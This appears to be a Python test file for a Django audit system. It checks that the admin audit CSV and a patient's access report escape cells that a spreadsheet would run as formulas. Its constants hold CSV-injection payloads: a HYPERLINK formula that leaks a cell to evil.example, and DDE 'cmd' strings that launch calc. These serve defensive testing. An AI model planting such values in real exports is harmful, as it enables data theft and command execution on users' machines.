"""Audit CSV exports never hand a spreadsheet a formula: a cell that begins with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return (OWASP's list) is written with a leading
single quote, in the admin's period export and in the patient's access report alike."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.core.files.storage import storages
from django.utils import timezone

from audit.csv_cells import safe_cell
from audit.models import AuditAction, Outcome
from audit.trail import Actor, Target, record
from imaging.models import Study
from privacy import export as exports
from privacy.models import DataExport

pytestmark = pytest.mark.django_db

EVIL_USERNAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
EVIL_AGENT = "+cmd|' /C calc'!A0"
EVIL_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["alice", "1.2.840.10008", "", " =not first", 42, -1, None])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value


def _export_rows(client) -> list[dict[str, str]]:
    today = str(timezone.localdate())
    response = client.get("/admin/audit/auditevent/export/", {"start": today, "end": today})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_the_admin_export_escapes_usernames_user_agents_and_reasons(client, alice):
    actor = Actor(username=EVIL_USERNAME, role="doctor", ip="192.0.2.7", client=EVIL_AGENT)
    record(AuditAction.VIEW, actor, Target("study", "1.2.3"), Outcome.DENIED,
           reason=EVIL_REASON)
    client.force_login(alice)
    [row] = [r for r in _export_rows(client) if r["object_uid"] == "1.2.3"]
    assert row["username"] == "'" + EVIL_USERNAME
    assert row["client"] == "'" + EVIL_AGENT
    assert row["reason"] == "'" + EVIL_REASON
    assert row["ip"] == "192.0.2.7"
    assert row["role"] == "doctor"


def test_the_patients_access_report_escapes_who_accessed(
    paulas_record, paula, django_capture_on_commit_callbacks,
):
    study = Study.objects.get(patient=paulas_record)
    record(AuditAction.VIEW, Actor(username=EVIL_USERNAME, role="doctor"), Target.study(study))
    with django_capture_on_commit_callbacks(execute=True):
        export = exports.request_export(paulas_record, paula)
    export.refresh_from_db()
    assert export.status == DataExport.Status.READY, export.error
    with storages["default"].open(export.file_key, "rb") as fp:
        report = zipfile.ZipFile(io.BytesIO(fp.read())).read("access_report.csv").decode()
    whos = [row["who"] for row in csv.DictReader(io.StringIO(report))]
    assert "'" + EVIL_USERNAME in whos
    assert EVIL_USERNAME not in whos
